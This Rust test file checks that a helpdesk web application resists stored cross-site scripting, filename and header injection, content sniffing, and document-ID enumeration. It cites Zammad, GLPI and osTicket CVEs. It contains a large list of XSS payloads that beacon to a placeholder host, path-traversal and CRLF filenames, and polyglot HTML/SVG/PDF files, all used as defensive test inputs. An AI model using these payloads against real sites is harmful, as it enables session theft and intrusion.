//! W3, W4 and A3: what others wrote runs in nobody's browser, whatever field it stands in; what a document is called leaves its
//! header; nobody counts through the documents of others.

use std::net::TcpListener;

use crate::browser::Browser;
use crate::desk::{Desk, Letter, PASSWORD};
use crate::missing::left_out;

fn desk() -> Desk {
    let desk = Desk::start();
    desk.user("camille.durand", "requester");
    desk.user("hugo.petit", "requester");
    desk.user("marie.lopez", "administrator");
    desk
}

/// Ways to have something run or fetched, each in a text of its own; `HOST` is where it would be noticed.
fn payloads() -> Vec<String> {
    let run = "fetch('//HOST/x')";
    let attributes = [
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onbegin",
        "onstart",
        "onanimationstart",
        "onpageshow",
    ];
    let elements = [
        "<img src=x EVENT=RUN>",
        "<svg EVENT=RUN>",
        "<svg><animate EVENT=RUN attributeName=x dur=1s>",
        "<details open EVENT=RUN>",
        "<input autofocus EVENT=RUN>",
        "<body EVENT=RUN>",
    ];
    let mut all = Vec::new();
    for (index, element) in elements.iter().enumerate() {
        for attribute in attributes.iter().skip(index % 2).step_by(2) {
            all.push(element.replace("EVENT", attribute).replace("RUN", run));
        }
    }
    let others = [
        "<script>RUN</script>",
        "<SCRIPT SRC=//HOST/x></SCRIPT>",
        "</title><script>RUN</script>",
        "</textarea><script>RUN</script>",
        "--><script>RUN</script>",
        "]]><script>RUN</script>",
        "\"><script>RUN</script>",
        "' autofocus onfocus=RUN x='",
        "\" autofocus onfocus=RUN x=\"",
        "<iframe src=\"javascript:RUN\">",
        "<iframe srcdoc=\"<script>RUN</script>\">",
        "<a href=\"javascript:RUN\">x</a>",
        "javascript:RUN",
        "data:text/html,<script>RUN</script>",
        "<link rel=stylesheet href=//HOST/x>",
        "<style>@import '//HOST/x';</style>",
        "<meta http-equiv=refresh content=\"0;url=//HOST/x\">",
        "<base href=//HOST/>",
        "<form action=//HOST/x><button>x</button></form>",
        "<object data=//HOST/x></object>",
        "<embed src=//HOST/x>",
        "<video src=//HOST/x autoplay>",
        "<img src=//HOST/x>",
        "<div style=\"background:url(//HOST/x)\">",
        "<table background=//HOST/x>",
        "<math><mtext><script>RUN</script>",
        "<svg><script>RUN</script></svg>",
        "<noscript><p title=\"</noscript><script>RUN</script>\">",
        "&lt;script&gt;RUN&lt;/script&gt;",
        "\u{ff1c}script\u{ff1e}RUN",
        "{{constructor.constructor('RUN')()}}",
        "${RUN}",
        "<scr\0ipt>RUN</scr\0ipt>",
        "<x/onclick=RUN>",
        "\u{2028}<script>RUN</script>",
        "http://HOST/\"onmouseover=RUN",
        "http://x\"><script>RUN</script>",
    ];
    all.extend(others.iter().map(|text| text.replace("RUN", run)));
    all
}

/// Text of others that ran (Zammad CVE-2018-1000154, GLPI CVE-2023-34106, osTicket CVE-2022-31889).
#[test]
fn nothing_that_others_write_runs_or_fetches() {
    let mut browser = match Browser::start() {
        Ok(browser) => browser,
        Err(missing) => return left_out("nothing_that_others_write_runs_or_fetches", &missing),
    };
    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
    elsewhere.set_nonblocking(true).expect("non-blocking");
    let host = elsewhere.local_addr().expect("its address").to_string();
    let desk = desk();
    let texts: Vec<String> = payloads()
        .iter()
        .map(|p| p.replace("HOST", &host))
        .collect();
    assert!(texts.len() >= 60, "{}", texts.len());
    let mut stranger = desk.stranger();
    stranger.take_form("/login");
    for (number, text) in (1..).zip(&texts) {
        let name = text.replace(['"', '\\', '\0', '\u{2028}', '\u{ff1c}', '\u{ff1e}'], "");
        let head = format!(
            "From: \"{name}\" <eleve.n{number}@ecole.example>\r\nTo: support@ecole.example\r\nSubject: {text}\r\n\
             Message-ID: <{number}@x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        );
        let body = format!(
            "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>{text}</p>\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n\
             --b\r\nContent-Type: application/octet-stream; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\nx\r\n--b--\r\n"
        );
        desk.mail_in(format!("{head}{body}").as_bytes());
        if number <= 9 {
            let agent = stranger.saying(
                "user-agent",
                &text.replace(|c: char| !c.is_ascii_graphic(), " "),
            );
            agent.post("/login", &[("login", text), ("password", "wrong")]);
        }
    }
    desk.ticket_when(texts.len() as u64, |_| true);
    desk.drained();
    let marie = desk.sign_in("marie.lopez");
    for text in &texts {
        let answer = [("title", &**text), ("text", text), ("published", "1")];
        let kept = marie.post("/answers/new", &answer);
        assert_eq!(kept.status, 303, "{text}: {}", kept.text());
    }
    browser.goto(&format!("{}/login", desk.url));
    browser.fill("Identifiant", "marie.lopez");
    browser.fill("Mot de passe", PASSWORD);
    browser.click("Envoyer");
    let mut places: Vec<String> = [
        "/tickets?view=all",
        "/tickets?view=all&from=50",
        "/settings/mail",
        "/settings/mail/queue",
        "/settings/audit",
        "/devices",
    ]
    .map(Into::into)
    .into();
    for number in 1..=texts.len() {
        places.push(format!("/t/{number}"));
        places.push(format!("/answers/{number}"));
    }
    places.extend(
        [
            "/answers",
            "/answers?from=50",
            "/answers/1/edit",
            "/answers/9/remove",
        ]
        .map(Into::into),
    );
    places.push("/answers/near?q=script+fetch+constructor".into());
    places.extend(["/t/1/request", "/t/1/documents", "/t/1/history"].map(Into::into));
    for text in &texts {
        let coded: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        places.push(format!("/search?q={coded}"));
    }
    let coded: String = form_urlencoded::byte_serialize(texts[0].as_bytes()).collect();
    for place in [
        "/settings/audit?words=",
        "/settings/mail?words=",
        "/tickets?view=",
        "/nowhere?",
        "/login?next=",
    ] {
        places.push(format!("{place}{coded}"));
    }
    for place in &places {
        browser.goto(&format!("{}{place}", desk.url));
        assert_eq!(browser.evaluate("document.querySelectorAll('script:not([src]), iframe, object, embed, base, style').length"), 0, "{place}");
    }
    let refused: Vec<&String> = browser
        .console_errors()
        .iter()
        .filter(|line| !line.contains("404"))
        .collect();
    assert!(refused.is_empty(), "{refused:#?}");
    assert!(
        elsewhere.accept().is_err(),
        "something was fetched from elsewhere"
    );
}

/// A document's name in its header (RFC 6266): one line, and no folder of the reader's.
#[test]
fn a_documents_name_leaves_neither_its_header_nor_its_folder() {
    let desk = desk();
    let camille = desk.sign_in("camille.durand");
    let names = [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\x.exe",
        "a\u{202e}fdp.exe",
        "CON",
        ".htaccess",
        "x.txt; filename=evil.exe",
        "été 2026.pdf",
        "%22;evil=1",
        "a%0d%0aSet-Cookie: x=1",
        "",
        " ",
        "..",
    ];
    let long = format!("{}.pdf", "n".repeat(4_000));
    for (index, name) in names.into_iter().chain([long.as_str()]).enumerate() {
        let bytes = format!("document {index}");
        let sent = camille.upload(
            "/new",
            &[("subject", "Pièce"), ("text", "Voici.")],
            &[(name, bytes.as_bytes())],
        );
        assert_eq!(sent.status, 303, "{name:?}: {}", sent.text());
        let page = camille.get(sent.header("location"));
        let place = page.documents().pop().unwrap_or_else(|| panic!("{name:?}"));
        let answer = camille.get(&place);
        assert_eq!((answer.status, answer.text()), (200, bytes), "{name:?}");
        let offered = answer.header("content-disposition");
        assert!(offered.starts_with("attachment; filename=\""), "{offered}");
        assert!(
            offered.is_ascii() && offered.len() < 1_200,
            "{name:?}: {offered}"
        );
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
        assert!(answer.cookie("x").is_none());
        let (_, rest) = offered.split_once('"').expect("a name");
        let (plain, rest) = rest.split_once('"').expect("its end");
        assert!(
            !plain.contains(['/', '\\', '\0']) && !plain.starts_with('.') && !plain.is_empty(),
            "{name:?}: {offered}"
        );
        let coded = rest.strip_prefix("; filename*=UTF-8''").unwrap_or_default();
        let read = percent_encoding::percent_decode_str(coded)
            .decode_utf8()
            .expect("UTF-8");
        assert!(
            !read.contains(['/', '\\', '\r', '\n', '\0', '\u{202e}']),
            "{name:?}: {read}"
        );
        assert!(!coded.contains([';', '"', ' ']), "{name:?}: {coded}");
    }
}

/// What is shown is shown by its bytes, as what they are, and runs nowhere: not as a page, not as a script of a page of ours.
#[test]
fn a_document_of_two_kinds_runs_as_neither() {
    let desk = desk();
    let camille = desk.sign_in("camille.durand");
    let script = "<script>document.title='ran'</script>";
    let html = format!("<!doctype html>{script}");
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{script}</svg>");
    let pdf_first = format!("%PDF-1.4\n{script}");
    let html_first = format!("{html}\n%PDF-1.4\n");
    let gif = "GIF89a=1;document.title='ran'//";
    let octets = "application/octet-stream";
    let documents = [
        ("page.html", html.as_str(), octets),
        ("page.pdf", &html, octets),
        ("photo.png", &svg, octets),
        ("dessin.svg", &svg, octets),
        ("fil.xml", "<?xml version='1.0'?><a/>", octets),
        ("deux.html", &pdf_first, "application/pdf"),
        ("deux.pdf", &html_first, octets),
        ("image.js", gif, "image/gif"),
    ];
    let mut browser = match Browser::start() {
        Ok(browser) => Some(browser),
        Err(missing) => {
            left_out("a_document_of_two_kinds_runs_as_neither", &missing);
            None
        }
    };
    if let Some(browser) = &mut browser {
        browser.set_cookie(&desk.url, "helpdesk", &camille.cookies["helpdesk"]);
    }
    for (name, bytes, media_type) in documents {
        let fields = [("subject", "Pièce"), ("text", "Voici.")];
        let sent = camille.upload("/new", &fields, &[(name, bytes.as_bytes())]);
        let place = camille.get(sent.header("location")).documents().remove(0);
        for range in ["bytes=0-", "bytes=9-"] {
            let part = camille.saying("range", range).get(&place);
            assert_eq!(
                (part.status, part.header("content-type")),
                (206, media_type),
                "{name}"
            );
            for (header, value) in [
                (
                    "content-security-policy",
                    "default-src 'none'; style-src 'unsafe-inline'; sandbox; frame-ancestors 'none'",
                ),
                ("x-content-type-options", "nosniff"),
                ("cross-origin-resource-policy", "same-origin"),
                ("referrer-policy", "no-referrer"),
            ] {
                assert_eq!(part.header(header), value, "{name}");
            }
        }
        let shown = media_type != octets;
        let how = if shown { "inline" } else { "attachment" };
        let offered = camille.get(&place);
        assert!(
            offered.header("content-disposition").starts_with(how),
            "{name}"
        );
        let Some(browser) = &mut browser else {
            continue;
        };
        if shown {
            browser.goto(&format!("{}{place}", desk.url));
            assert_ne!(browser.title(), "ran", "{name}");
        }
        browser.goto(&format!("{}/t/1", desk.url));
        let load = format!(
            "new Promise(done => {{ const s = document.createElement('script'); s.src = '{place}'; \
             s.onload = () => done('loaded'); s.onerror = () => done('refused'); document.body.append(s) }})"
        );
        assert_eq!(browser.evaluate_later(&load), "refused", "{name}");
        assert_ne!(browser.title(), "ran", "{name}");
    }
}

/// Documents by their number (osTicket CVE-2020-24881 class, GLPI CVE-2023-34107): a document is its ticket's.
#[test]
fn nobody_counts_through_the_documents_of_others() {
    let desk = desk();
    for number in 1..=3 {
        let letter = Letter::from("camille.durand", &format!("Plan {number}"), "Voici.");
        desk.mail_in(&letter.with("plan.pdf", b"Plan").raw());
        desk.ticket_when(number, |_| true);
    }
    let (camille, hugo) = (desk.sign_in("camille.durand"), desk.sign_in("hugo.petit"));
    for id in 1..=6 {
        let place = format!("/d/{id}/plan.pdf");
        let whose = camille.get(&place);
        assert_eq!(whose.status, if id <= 3 { 200 } else { 404 }, "{id}");
        assert_eq!(hugo.get(&place).status, 404, "{id}");
        let absent = hugo.get("/d/999/plan.pdf").text();
        assert_eq!(
            hugo.get(&place).text(),
            absent.replace("/d/999/", &format!("/d/{id}/"))
        );
        assert_eq!(desk.stranger().get(&place).status, 303, "{id}");
    }
    for odd in [
        "/d/-1/x",
        "/d/0/x",
        "/d/1e0/x",
        "/d/1%00/x",
        "/d/99999999999999999999/x",
        "/d/1/x/y",
    ] {
        assert_eq!(camille.get(odd).status, 404, "{odd}");
    }
}
